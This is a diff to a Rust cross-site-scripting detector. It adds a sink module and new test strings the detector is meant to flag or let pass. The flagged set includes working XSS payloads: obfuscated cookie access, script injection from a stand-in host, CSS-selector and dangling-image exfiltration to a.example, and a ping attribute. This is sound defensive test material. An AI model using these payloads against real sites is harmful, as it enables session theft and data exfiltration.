@@ -5,6 +5,7 @@ mod disguise;
 mod fragment;
 mod markup;
 mod script;
+mod sink;
 
 use super::detector::{Detector, Report};
 use super::prefilter::{Hints, Marks};
@@ -193,6 +194,17 @@ mod tests {
             "<IMG SRC=\"mocha:[code]\">",
             "document/**/.cookie",
             "<script>a=/x/",
+            "document['coo'+'kie']",
+            "String.fromCharCode(97,108,101,114,116)",
+            "top[8680439..toString(30)](1)",
+            "{onerror=alert}throw 1",
+            "document.body.appendChild(document.createElement('script')).src='//a.example'",
+            "data:text/html;base64,PHNjcmlwdD5h",
+            "<portal src=//a.example>",
+            "<style>input[value^=a]{background:url(//a.example/a)}</style>",
+            "<img src='//a.example/log?",
+            "<img src=x onerror={alert(1)}>",
+            "\" ping=//a.example href=//a.example \"",
             "<script>alert(1)</script>",
             "<ScRiPt src=//x.example/a.js>",
             "<img src=x onerror=alert(1)>",
@@ -238,6 +250,16 @@ mod tests {
         for text in [
             "<p>Hello <b>world</b>, <a href=\"https://a.example/?x=1&y=2\">link</a></p>",
             "<img src=\"https://a.example/a.png\" alt=\"one = two\">",
+            "<Foo onClick={() => setOpen(true)} />",
+            "<div className=\"app\" onClick={handle}>Hi</div>",
+            "<input value={x} onChange={this.props.onChange} />",
+            "<img alt=\"onload=1\">",
+            "Alert (high)",
+            "<!--[if mso]><table><tr><td><![endif]-->x<!--[if mso]></td></tr></table><![endif]-->",
+            "<script type=\"application/ld+json\">{\"a\":\"b\"}</script>",
+            "<div><input type=\"text\" value=\"\"></div>",
+            "String.fromCharCode(65)",
+            "document.querySelector('.x').focus()",
             "if a < b and c > d then \"on\" = 'off'",
             "I love JavaScript: it is fun; be on time",
             "Please confirm (by mail) or alert us",
